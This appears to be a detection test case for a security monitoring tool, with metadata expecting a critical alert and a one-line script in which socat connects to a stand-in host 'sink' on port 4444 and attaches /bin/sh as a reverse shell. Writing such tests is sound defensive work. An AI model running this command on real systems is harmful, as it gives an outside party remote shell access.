# id: N02
# title: socat connects out and starts a shell
# expect: alert
# severity: critical
# kinds: process, network
# attck: T1059.004
# image: tools
# launch: app
# peers: sink:4444

timeout 5 socat TCP:sink:4444 EXEC:/bin/sh
exit 0
